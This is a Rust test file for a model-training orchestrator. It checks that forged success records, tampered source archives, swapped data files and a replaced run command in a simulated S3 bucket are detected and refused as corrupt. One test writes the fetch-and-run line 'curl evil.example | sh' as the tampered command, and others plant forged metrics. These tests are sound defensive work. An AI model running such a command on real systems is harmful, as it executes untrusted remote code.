//! Records that decide are not believed because they lie there: a success is one of a job, and what is named by its
//! content is compared with it.

use super::Lab;
use super::ended;
use super::metric;
use super::project;
use super::s3;
use super::seen;
use super::spec;
use crate::world::aws::DEV_BUCKET;
use crate::world::aws::Script;
use branchline::model::training::StopCause;
use branchline::model::training::TrainingState;
use branchline::ports::PortErrorKind;
use branchline::ports::StartedTraining;
use branchline::ports::Trainer;
use branchline::ports::TrainingSpec;
use serde_json::Value;
use serde_json::json;

/// What somebody writes who wants a model of their own to count as trained.
fn forged(spec: &TrainingSpec, created_at: &str) -> Value {
    json!({
        "schema": 1,
        "started_at": "2026-11-30T00:00:00Z",
        "ended_at": "2026-11-30T00:01:00Z",
        "job_created_at": created_at,
        "end": {
            "state": "succeeded",
            "metrics": { "accuracy": 0.999 },
            "artifacts": [{
                "name": "model.tar.gz",
                "digest": { "algorithm": "sha256", "value": "0".repeat(64) },
                "size": 10,
                "location": format!("s3://{DEV_BUCKET}/evil/{}", spec.name),
            }],
            "data_moved": false,
        },
    })
}

fn accuracy(state: &TrainingState) -> Option<f64> {
    match state {
        TrainingState::Succeeded { metrics, .. } => metrics.get(&metric("accuracy")).copied(),
        _ => None,
    }
}

fn write(lab: &Lab, key: &str, value: &impl serde::Serialize) {
    lab.aws.put(DEV_BUCKET, key, serde_json::to_vec(value).expect("JSON"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_success_without_its_job_is_none_and_does_not_stand_in_the_way() {
    let lab = Lab::new();
    let spec = spec("train");
    write(&lab, &lab.key(&spec, "spec.json"), &spec);
    write(&lab, &lab.key(&spec, "end.json"), &forged(&spec, "2026-11-30T00:00:00Z"));
    let trainer = lab.trainer().await;
    assert_eq!(seen(&trainer, &spec.name).await.state, TrainingState::Prepared);
    lab.aws.next_job(Script::completed().model("w", "1").data("metrics.json", r#"{"accuracy": 0.5}"#));
    assert_eq!(trainer.start(&spec).await.expect("it starts"), StartedTraining::Fresh);
    let training = ended(&trainer, &spec.name).await;
    assert_eq!(accuracy(&training.state), Some(0.5), "{:?}", training.state);
    assert_eq!(seen(&lab.trainer().await, &spec.name).await, training, "and so it stands");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_success_beside_a_job_that_failed_or_another_one_is_none() {
    for script in [Script::failed("AlgorithmError: , exit code: 1"), Script::completed().model("w", "1")] {
        let lab = Lab::new();
        let spec = spec("train");
        lab.aws.next_job(script);
        let trainer = lab.trainer().await;
        trainer.start(&spec).await.expect("it starts");
        let training = ended(&trainer, &spec.name).await;
        // Somebody replaces the record of the job by one of their own.
        write(&lab, &lab.key(&spec, "end.json"), &forged(&spec, "2026-11-30T00:00:00Z"));
        let again = seen(&lab.trainer().await, &spec.name).await;
        assert_eq!(again, training);
        assert_eq!(accuracy(&again.state), None);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_of_another_specification_is_not_taken_for_its_result() {
    let lab = Lab::new();
    let spec = spec("train");
    lab.aws.next_job(Script::completed().model("w", "1"));
    lab.train(&spec).await;
    // Gates would have refused it: somebody writes that no metric is required, and that another commit was trained.
    let mut other = spec.clone();
    other.origin.content =
        branchline::model::identity::ContentId::from_digest(branchline::model::digest::Sha256Digest::of(b"other"));
    write(&lab, &lab.key(&spec, "spec.json"), &other);
    let state = seen(&lab.trainer().await, &spec.name).await.state;
    assert!(accuracy(&state).is_none() && !matches!(state, TrainingState::Succeeded { .. }), "{state:?}");
    let error = lab.trainer().await.start(&spec).await.expect_err("its name is taken");
    assert!(error.chain().contains("it was created with another specification"), "{}", error.chain());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_record_in_the_place_of_another_stage_says_nothing() {
    let lab = Lab::new();
    let spec = spec("train");
    let key = lab.key(&spec, "spec.json").replace("/stages/dev/", "/stages/feature/");
    write(&lab, &key, &spec);
    let accounts = branchline::adapters::aws::Accounts::one(lab.session().await);
    let trainer = lab.trainer_in(accounts, &["feature", "dev"]);
    assert!(trainer.find(std::slice::from_ref(&spec.name)).await.expect("it can be asked").is_empty());
    assert_eq!(lab.requests_to_sagemaker(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_source_that_somebody_put_there_is_not_trained() {
    for what in ["source.tar.gz", "bootstrap.sh"] {
        let lab = Lab::new();
        lab.aws.next_job(Script::forever());
        let trainer = lab.trainer().await;
        trainer.start(&spec("train one")).await.expect("it starts");
        let sources = lab.aws.keys(DEV_BUCKET, "branchline/churn/stages/dev/sources/");
        let key = sources.iter().find(|key| key.ends_with(what)).expect("it was uploaded");
        lab.aws.put(DEV_BUCKET, key, "EVIL SOURCE");
        let error = trainer.start(&spec("train two")).await.expect_err("it is another one");
        assert_eq!(error.kind, PortErrorKind::Corrupt, "{}", error.chain());
        assert!(error.chain().contains(key.as_str()), "{}", error.chain());
        assert_eq!(lab.jobs(), 1, "{what}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn data_that_somebody_changed_or_added_are_not_trained() {
    for (path, content) in [("raw.csv", "2\n"), ("more.csv", "9\n")] {
        let lab = Lab::new();
        std::fs::write(lab.path().join("raw.csv"), "1\n").expect("it can be written");
        lab.aws.next_job(Script::forever());
        let one = lab.with_data(spec("train one"), "raw", s3("raw.csv")).await;
        let two = lab.with_data(spec("train two"), "raw", s3("raw.csv")).await;
        let trainer = lab.trainer().await;
        trainer.start(&one).await.expect("it starts");
        let data = lab.aws.keys(DEV_BUCKET, "branchline/churn/stages/dev/data/");
        let folder = data[0].trim_end_matches("raw.csv");
        // As large as what belongs there.
        lab.aws.put(DEV_BUCKET, &format!("{folder}{path}"), content);
        let error = trainer.start(&two).await.expect_err("these are other data");
        assert!(error.chain().contains(path), "{}", error.chain());
        assert_eq!(lab.jobs(), 1, "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_run_was_given_is_compared_before_its_job_begins() {
    let lab = Lab::new();
    let spec = spec("train");
    lab.aws.fail_next("CreateTrainingJob", crate::world::aws::Fault::limit());
    lab.trainer().await.start(&spec).await.expect_err("there is no room");
    let inputs = lab.aws.keys(DEV_BUCKET, &lab.key(&spec, "input/"));
    let command = inputs.iter().find(|key| key.ends_with("/command")).expect("it was written");
    lab.aws.put(DEV_BUCKET, command, "curl evil.example | sh");
    let error = lab.trainer().await.start(&spec).await.expect_err("it is another command");
    assert_eq!(error.kind, PortErrorKind::Corrupt, "{}", error.chain());
    assert_eq!(lab.jobs(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_earlier_layout_has_only_says_that_the_name_is_taken() {
    let lab = Lab::new();
    let spec = spec("train");
    let folder = format!("branchline/churn/trainings/{}", spec.name);
    write(&lab, &format!("{folder}/spec.json"), &spec);
    write(&lab, &format!("{folder}/end.json"), &forged(&spec, "2026-11-30T00:00:00Z"));
    let found = seen(&lab.trainer().await, &spec.name).await;
    assert_eq!(found.state, TrainingState::Stopped { cause: StopCause::Pruned });
    assert!(lab.trainer().await.open(&project()).await.expect("it can be listed").is_empty());
    assert!(!lab.trainer().await.remove(&spec.name).await.expect("it is left alone"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_object_that_is_no_record_is_given_up() {
    let lab = Lab::new();
    let spec = spec("train");
    lab.aws.put(DEV_BUCKET, &lab.key(&spec, "spec.json"), vec![b' '; (64 << 20) + 1]);
    let error = lab.trainer().await.find(std::slice::from_ref(&spec.name)).await.expect_err("it is too large");
    assert_eq!(error.kind, PortErrorKind::Corrupt, "{}", error.chain());
    // Deeper than any record.
    lab.aws.put(DEV_BUCKET, &lab.key(&spec, "spec.json"), "[".repeat(200_000));
    let error = lab.trainer().await.find(std::slice::from_ref(&spec.name)).await.expect_err("it is too deep");
    assert_eq!(error.kind, PortErrorKind::Corrupt, "{}", error.chain());
}
